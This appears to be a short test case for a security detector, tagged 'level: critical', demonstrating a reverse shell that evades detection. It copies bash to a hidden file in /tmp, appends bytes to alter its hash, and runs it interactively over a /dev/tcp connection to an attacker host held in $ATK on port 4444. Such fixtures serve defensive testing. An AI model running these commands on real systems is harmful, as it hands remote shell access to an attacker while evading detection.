# SPDX-License-Identifier: MIT
# technique: a renamed copy of bash with bytes appended, on a descriptor opened first
# level: critical
# quick: no
cp /bin/bash /tmp/.cache-helper && printf 'padding' >>/tmp/.cache-helper
cat >/tmp/.run.sh <<X
exec 3<>/dev/tcp/$ATK/4444
/tmp/.cache-helper -i <&3 >&3 2>&3
X
t0
bash /tmp/.run.sh
